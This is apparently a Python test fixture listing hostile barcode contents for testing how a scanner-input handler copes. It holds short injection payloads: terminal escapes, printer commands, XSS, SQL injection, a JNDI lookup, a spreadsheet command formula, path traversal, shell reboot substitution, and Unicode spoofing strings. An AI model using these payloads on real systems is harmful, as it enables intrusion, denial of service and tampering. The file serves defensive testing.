"""Barcodes that somebody prints to do harm: what a scanner may be made to send, for tests and for trying out.

Owns: the list. Must not know: who reads it. Known attacks: BadBarcode (PacSec 2015, control characters typed
by keyboard scanners), terminal escapes, printer languages, markup, log and record injection, look-alikes.
"""

from __future__ import annotations

from collections.abc import Mapping

HOSTILE: Mapping[str, str] = {
    "terminal title": "\x1b]0;pwned\x07",
    "terminal clear": "\x1b[2J\x1b[H",
    "terminal c1": "\x9b31mred\x9b0m",
    "log line": "RB123456785GB\r\n2027-01-01 CRITICAL root login",
    "nul": "a\x00b",
    "backspaces": "RB1\x08\x08\x08EVIL",
    "bell and delete": "\x07\x7f\x07",
    "run dialog": "cmd.exe /c calc\r",
    "zpl": "^XA^FO0,0^FDx^FS^XZ",
    "zpl reset": "~JR",
    "tspl": 'CLS\r\nTEXT 0,0,"3",0,1,1,"x"\r\nPRINT 99\r\n',
    "escpos init": "\x1b@\x1dV\x00",
    "escpos realtime": "\x10\x04\x01\x10\x14\x08\x01\x03\x14\x01\x06\x02\x08",
    "epl": 'N\nA50,0,0,1,1,1,N,"x"\nP9\n',
    "markup": "<script>alert(1)</script>",
    "markup attribute": '"onload="alert(1)',
    "sql": "'; DROP TABLE events;--",
    "json": '","type":"booth.parcel.accepted.v1","x":"',
    "format percent": "%s%n%x%100000d",
    "format braces": "{0.__class__}{item}{}{{",
    "template": "{{item.number}}${7*7}<%= 7*7 %>",
    "jndi": "${jndi:ldap://x/a}",
    "spreadsheet": "=cmd|' /C calc'!A0",
    "path": "../../etc/passwd",
    "shell": "$(reboot);`reboot`&&reboot|reboot",
    "url": "https://evil.example/?x=1",
    "topic": "booth/v1/+/dn/cmd/#",
    "bidi override": "\u202e321-BD",
    "bidi isolate": "\u2066RB123456785GB\u2069",
    "zero width": "RB1234\u200b56785GB",
    "byte order mark": "\ufeffRB123456785GB",
    "line separator": "a\u2028b\u2029c",
    "bangla digits": "RB১২৩৪৫৬৭৮৫GB",
    "fullwidth": "ＲＢ123456785GB",
    "greek look-alike": "ΡΒ123456785GB",
    "private use": "\ue000\uf8ff",
    "unassigned": "\U000e0001\U0010ffff",
    "combining": "a" + "\u0301" * 200,
    "group separators": "\x1d" * 50,
    "aim upon aim": "]C1]C1]C1]C1",
    "brackets": "(01)" * 50,
    "label mark": "BXL1:000000000000:1:",
    "command code": "BXC1-VOID-M-20991231-AAAAAA-AAAAAAAAAAAAAAAA",
    "4 KB of text": "A" * 4096,
    "4 KB of Bangla": "ক" * 1365,
    "4 KB of escapes": "\x1b[" * 2048,
    "deep link": "https://a/" + "01/" * 200,
}
